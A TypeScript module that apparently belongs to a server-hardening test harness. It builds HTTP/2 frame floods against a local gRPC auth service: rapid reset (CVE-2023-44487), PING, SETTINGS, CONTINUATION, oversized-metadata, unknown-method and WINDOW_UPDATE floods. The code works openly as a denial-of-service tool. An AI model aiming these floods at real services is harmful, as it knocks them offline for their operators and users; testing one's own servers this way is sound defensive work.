import { flags, frameTypes, toCallHeaders, toFrame, toSettings } from '../wire/frames.ts'
import type { Attack, AttackContext } from './attack.ts'
import { flood, repeat } from './repeat.ts'

const validate = '/auth.v1.AuthService/ValidateToken'
/** Frames in one write. */
const atOnce = 200
const places = 4

const many = (toBytes: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: atOnce }, (_, index) => toBytes(index)))

/** A flood of frames, the same in every connection that the attacker gets. */
function makeFlood(name: string, what: string, toBytes: (round: number) => Buffer): Attack {
  const run = (context: AttackContext) =>
    repeat(
      context,
      places,
      () => context.connect({ from: '127.0.0.2' }),
      (peer) => flood(context, peer, toBytes),
    )
  return { name, what, ends: 'closed', run }
}

const ping = toFrame(frameTypes.ping, flags.none, 0, Buffer.alloc(8))
const call = toCallHeaders(validate)
const cancel = Buffer.from([0, 0, 0, 8])
const toStreamId = (round: number, index: number) => 2 * (round * atOnce + index) + 1

/** Attacks by frames that cost their sender next to nothing. */
export const frameAttacks: readonly Attack[] = [
  makeFlood('rapid-reset', 'streams opened and taken back at once (CVE-2023-44487)', (round) =>
    many((index) => {
      const id = toStreamId(round, index)
      const open = toFrame(frameTypes.headers, flags.endHeaders, id, call)
      return Buffer.concat([open, toFrame(frameTypes.reset, flags.none, id, cancel)])
    }),
  ),
  makeFlood('ping-flood', 'PING frames', () => many(() => ping)),
  makeFlood('settings-flood', 'SETTINGS frames', () => many(() => toSettings({ 4: 65_535 }))),
  makeFlood('continuation-flood', 'a header block that never ends', (round) =>
    round === 0
      ? toFrame(frameTypes.headers, flags.none, 1, call)
      : many(() => toFrame(frameTypes.continuation, flags.none, 1)),
  ),
  makeFlood('16-mib-metadata', 'metadata of 16 MiB', (round) =>
    round === 0
      ? toFrame(frameTypes.headers, flags.none, 1, toCallHeaders(validate, { 'x-large': 'x'.repeat(15_000) }))
      : toFrame(frameTypes.continuation, flags.none, 1, Buffer.alloc(16_384, 'x')),
  ),
  makeFlood('unknown-methods', 'calls of methods that are not there', (round) =>
    many((index) => {
      const path = toCallHeaders(`/auth.v1.Nothing/Method${index}`)
      return toFrame(frameTypes.headers, flags.endHeaders + flags.endStream, toStreamId(round, index), path)
    }),
  ),
  makeFlood('window-updates', 'WINDOW_UPDATE and PRIORITY frames', () =>
    many((index) =>
      index % 2 === 0
        ? toFrame(frameTypes.windowUpdate, flags.none, 0, Buffer.from([0, 0, 0, 1]))
        : toFrame(frameTypes.priority, flags.none, 1, Buffer.from([0, 0, 0, 3, 1])),
    ),
  ),
]
